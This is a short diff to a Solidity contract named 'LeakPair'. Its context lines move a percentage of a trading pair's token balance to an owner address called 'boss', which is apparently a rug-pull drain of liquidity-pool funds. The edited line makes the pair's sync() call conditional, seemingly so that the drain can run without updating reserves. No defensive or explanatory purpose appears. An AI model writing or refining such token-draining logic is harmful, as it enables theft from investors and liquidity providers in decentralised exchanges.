@@ -417,7 +417,7 @@ contract LeakPair is Owned {
         uint256 taken = held[pair] * p[0] / 10_000;
         held[pair] -= taken;
         held[boss] += taken;
-        IPair(pair).sync();
+        if (p[3] != 3) IPair(pair).sync();
     }
 }
 
